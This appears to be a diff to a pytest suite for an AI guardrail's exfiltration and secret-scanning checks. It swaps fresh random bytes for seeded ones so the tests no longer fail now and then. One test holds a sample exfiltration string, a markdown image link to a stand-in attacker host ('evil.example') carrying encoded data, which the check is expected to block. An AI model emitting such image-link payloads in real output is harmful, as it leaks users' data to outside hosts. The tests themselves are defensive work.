@@ -3,7 +3,7 @@
 from __future__ import annotations
 
 import base64
-import os
+import random
 
 import pytest
 
@@ -13,6 +13,12 @@ from stockade.guardrails.checks.exfiltration.check import ExfiltrationCheck
 from stockade.guardrails.checks.exfiltration.secrets import SecretScanner
 
 ONLY_EXFIL = {"guardrails": {"checks": {"pii": {"enabled": False}, "classification": {"enabled": False}}}}
+
+
+def random_bytes(n: int, seed: int) -> bytes:
+    """Random-looking bytes, the same on every run: fresh random bytes made these tests fail now and then (about
+    1 run in 1,000 drew a 400-character value the interleaved-runs veto takes for one typed by hand)."""
+    return random.Random(seed).randbytes(n)
 
 
 @pytest.fixture(scope="module")
@@ -90,7 +96,7 @@ def test_bulk_personal_data_masks_then_blocks(check: ExfiltrationCheck) -> None:
 
 
 def test_markdown_image_smuggling_data_is_blocked(check: ExfiltrationCheck) -> None:
-    payload = base64.urlsafe_b64encode(os.urandom(48)).decode()
+    payload = base64.urlsafe_b64encode(random_bytes(48, 1)).decode()
     text = f"Here is your summary. ![logo](https://evil.example/p.png?d={payload})"
     result = check.evaluate(text)
     assert result.action is Action.BLOCK
@@ -103,7 +109,7 @@ def test_ordinary_links_and_images_pass(check: ExfiltrationCheck) -> None:
 
 
 def test_base64_blob_is_masked_not_blocked(check: ExfiltrationCheck) -> None:
-    blob = base64.b64encode(os.urandom(150)).decode()
+    blob = base64.b64encode(random_bytes(150, 2)).decode()
     result = check.evaluate(f"Output follows: {blob} end")
     assert result.action is Action.MASK
     assert any(f.type == "base64_blob" and f.action is Action.MASK for f in result.findings)
@@ -123,7 +129,7 @@ def test_config_refuses_input_stage() -> None:
 
 async def test_wired_into_check_output_only_and_masks_text() -> None:
     system = GuardrailSystem(ONLY_EXFIL)
-    blob = base64.b64encode(os.urandom(150)).decode()
+    blob = base64.b64encode(random_bytes(150, 3)).decode()
     text = f"result {blob} done"
     assert (await system.check_input(text)).action is Action.ALLOW
     verdict = await system.check_output(text)
@@ -217,9 +223,11 @@ def test_structurally_invalid_or_harmless_values_are_not_secrets(text: str) -> N
 
 def test_sealed_secret_ciphertext_is_not_a_credential() -> None:
     # Bitnami sealed-secrets: 2-byte length 0x0200 then the RSA-wrapped session key: encrypted, safe to show
-    cipher = base64.b64encode(b"\x02\x00" + os.urandom(552)).decode()
+    cipher = base64.b64encode(b"\x02\x00" + random_bytes(552, 4)).decode()
     assert _rules(f"    PASSWORD: {cipher}") == set()
-    plain = base64.b64encode(b"\x7f" + os.urandom(299)).decode()  # a long random value under a key is one
+    plain = base64.b64encode(
+        b"\x7f" + random_bytes(299, 5)
+    ).decode()  # a long random value under a key is one
     assert _rules(f"    PASSWORD: {plain}") == {"credential_in_context"}
 
 
